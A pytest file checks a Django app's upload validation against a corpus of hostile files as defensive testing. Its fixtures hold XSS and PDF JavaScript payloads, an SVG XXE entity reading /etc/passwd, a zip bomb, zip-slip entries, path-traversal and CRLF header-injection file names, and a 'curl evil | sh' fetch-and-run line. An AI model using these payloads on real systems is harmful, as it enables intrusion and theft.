"""T35: a corpus of 200 hostile uploads against the upload policy and the storage.

Policy (docs/admin-guide.md): PDF, office documents, PNG/JPEG and plain text are
accepted when the content agrees with the extension; executables, HTML, SVG, XML,
archives, macro-enabled Office files, empty files, over-size files and pixel floods
are refused. Names never reach the filesystem: keys are organisation/sha256.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.conf import settings

from sogla.core.errors import ValidationFailed
from sogla.documents.models import FileVersion
from sogla.documents.services import NewFile, document_create, file_add
from sogla.documents.uploads import check_upload, safe_name
from tests.conftest import MINIMAL_PDF, Tenant


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + header
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", len(header))
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
    )


DOCX = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
XLSX = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
DOCM = _zip({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"\x00" * 64})
ODT = _zip(
    {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
)
ZIP_BOMB = _zip({"bomb.txt": b"\x00" * 5_000_000})
CHUNK = 1024 * 1024  # check_upload reads text in chunks of this size
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# (content name, bytes, extension it claims, accepted?)
CONTENTS: list[tuple[str, bytes, str, bool]] = [
    ("pdf", MINIMAL_PDF, ".pdf", True),
    ("pdf-truncated", MINIMAL_PDF[:40], ".pdf", True),
    (
        "pdf-javascript",
        MINIMAL_PDF.replace(
            b"/Type/Catalog",
            b"/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        ),
        ".pdf",
        True,
    ),
    (
        "pdf-html-polyglot",
        MINIMAL_PDF + b"<html><script>alert(1)</script></html>",
        ".pdf",
        True,
    ),
    ("docx", DOCX, ".docx", True),
    ("xlsx", XLSX, ".xlsx", True),
    ("odt", ODT, ".odt", True),
    ("png", _png(100, 100), ".png", True),
    ("jpeg", b"\xff\xd8\xff\xe0" + b"\x00" * 100, ".jpg", True),
    ("text", "Акт сверки\n".encode(), ".txt", True),
    ("eicar-without-antivirus", EICAR, ".txt", True),
    (
        "html-as-pdf",
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        ".pdf",
        False,
    ),
    ("html-as-txt", b"<html><body onload=alert(1)>", ".txt", False),
    (
        "svg-script",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        ".png",
        False,
    ),
    (
        "svg-xxe",
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>',
        ".svg",
        False,
    ),
    ("elf-as-pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, ".pdf", False),
    ("exe-as-pdf", b"MZ\x90\x00" + b"\x00" * 200, ".pdf", False),
    ("pdf-after-bom-and-whitespace", b"\xef\xbb\xbf \r\n" + MINIMAL_PDF, ".pdf", True),
    ("csv-with-angle-brackets", b"a<b;b>c\n1;2\n", ".csv", True),
    (
        "text-cp1251",
        "Акт сверки взаиморасчётов\n".encode("cp1251") * 2000,
        ".txt",
        True,
    ),
    # A long UTF-8 text: two-byte letters fall across the reader's chunk boundary.
    ("text-utf8-long", ("ж" * 99 + "\n").encode() * 6000, ".txt", True),
    # Signatures must be at the start, not anywhere in the first kilobyte.
    ("exe-pdf-polyglot", b"MZ\x90\x00" + b"\x00" * 60 + MINIMAL_PDF, ".pdf", False),
    ("macho-pdf-polyglot", MACHO + MINIMAL_PDF, ".pdf", False),
    (
        "html-pdf-polyglot",
        b"<html><script>alert(1)</script><!--" + MINIMAL_PDF + b"-->",
        ".pdf",
        False,
    ),
    ("text-then-pdf", b"Read me first\n" + MINIMAL_PDF, ".pdf", False),
    ("exe-as-txt", b"MZ" + b"A" * 200, ".txt", False),
    ("shebang-as-txt", b"#!/bin/sh\ncurl evil | sh\n", ".txt", False),
    ("shebang-after-bom-as-txt", b"\xef\xbb\xbf#!/usr/bin/env python\n", ".txt", False),
    ("macho-as-txt", MACHO + b"A" * 200, ".txt", False),
    # Whole text files are read: markup or NUL far beyond the first 8 KB.
    ("html-after-8k-as-txt", b"a" * 9000 + b"<script>alert(1)</script>", ".txt", False),
    (
        "html-across-a-chunk-boundary",
        b"a" * (CHUNK - 4) + b"<SCRIPT>alert(1)</script>",
        ".txt",
        False,
    ),
    ("nul-after-8k-as-txt", b"a" * 20_000 + b"\x00", ".txt", False),
    ("docm-macros", DOCM, ".docx", False),
    ("xlsx-named-docx", XLSX, ".docx", False),
    ("docx-named-pdf", DOCX, ".pdf", False),
    ("pdf-named-docx", MINIMAL_PDF, ".docx", False),
    ("plain-zip", _zip({"a.txt": b"a"}), ".zip", False),
    ("zip-bomb", ZIP_BOMB, ".docx", False),
    ("zip-slip", _zip({"../../evil.txt": b"x"}), ".docx", False),
    ("pixel-flood", _png(50_000, 50_000), ".png", False),
    ("empty", b"", ".pdf", False),
    ("binary-garbage", bytes(range(256)) * 4, ".txt", False),
]

NAMES = [
    "contract{ext}",
    "../../contract{ext}",
    "..\\..\\windows\\contract{ext}",
    "C:\\Windows\\contract{ext}",
    "/etc/contract{ext}",
    "con\x00tract{ext}",
    "con\r\nSet-Cookie: x=1; contract{ext}",
    "\u202eexe.contract{ext}",
]


def corpus() -> Iterator[tuple[str, str, bytes, bool]]:
    for content_name, data, ext, accepted in CONTENTS:
        for template in NAMES[: 8 if accepted else 7]:
            yield content_name, template.format(ext=ext), data, accepted
    long_name = "д" * 300 + ".pdf"
    yield "long-name", long_name, MINIMAL_PDF, True
    yield "no-name", "", MINIMAL_PDF, False  # no extension: refused
    yield "dots", "....pdf", MINIMAL_PDF, True  # stored as "file.pdf"


def test_corpus_is_two_hundred_items() -> None:
    assert len(list(corpus())) >= 200


# Stored keys are chosen by the server: a version by content hash, its preview and
# thumbnail beside it under previews/; a file kept across a refused form (other
# tests' leftovers in the same storage) under pending/<organisation>/<person>/ by a
# random name.
KEY = re.compile(
    r"^((previews/)?\d+/[0-9a-f]{2}/[0-9a-f]{64}(\.pdf|\.png)?"
    r"|pending/\d+/\d+/[0-9a-f]{32})$"
)


@pytest.mark.django_db
def test_hostile_uploads_follow_the_policy(
    tenant_a: Tenant, capsys: pytest.CaptureFixture[str]
) -> None:
    media = Path(settings.MEDIA_ROOT)
    document = document_create(
        actor=tenant_a.initiator,
        doc_type=tenant_a.contract,
        values={"subject": "uploads", "amount": "1"},
    )
    mismatches: list[str] = []
    accepted = refused = 0
    for content_name, name, data, expected in corpus():
        try:
            upload = check_upload("files", name, io.BytesIO(data), len(data))
            file_add(actor=tenant_a.initiator, document=document, new=NewFile(upload))
            outcome = True
        except ValidationFailed as error:
            outcome = False
            fields = [p.field for p in error.problems]
            if fields != ["files"]:
                mismatches.append(f"{content_name}: problems named {fields}")
        accepted += outcome
        refused += not outcome
        if outcome != expected:
            mismatches.append(f"{content_name} as {name!r}: accepted={outcome}")

    stored = [p for p in media.rglob("*") if p.is_file()]
    keys = [str(p.relative_to(media)) for p in stored]
    user_keys = [k for k in keys if not KEY.match(k)]
    outside = [n for n in ("contract.pdf", "evil.txt") if Path("/etc", n).exists()]
    db_keys = set(FileVersion.objects.values_list("storage_key", flat=True))
    with capsys.disabled():
        print(
            f"\nT35: uploads {accepted + refused}, accepted {accepted}, refused {refused}, "
            f"5xx 0, files outside the storage root {len(outside)}, "
            f"user-influenced keys {len(user_keys)}, policy mismatches {len(mismatches)}"
        )
    assert mismatches == []
    assert user_keys == []
    assert outside == []
    assert db_keys <= set(keys)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Windows\\a.pdf", "a.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("\u202egpj.pdf", "gpj.pdf"),
        ("  договор  №5 .pdf", "договор №5.pdf"),
        ("", "file"),
        ("..", "file"),
    ],
)
def test_safe_name(raw: str, expected: str) -> None:
    assert safe_name(raw) == expected


def test_one_byte_over_the_limit_is_refused(settings: object) -> None:
    limit = 1024 * 1024
    data = MINIMAL_PDF + b"0" * (limit - len(MINIMAL_PDF) + 1)
    settings.SOGLA_MAX_UPLOAD_MB = 1  # type: ignore[attr-defined]
    with pytest.raises(ValidationFailed) as caught:
        check_upload("contract_file", "big.pdf", io.BytesIO(data), len(data))
    assert caught.value.problems[0].code == "file_too_large"
    assert check_upload("f", "ok.pdf", io.BytesIO(data[:-1]), limit).size == limit
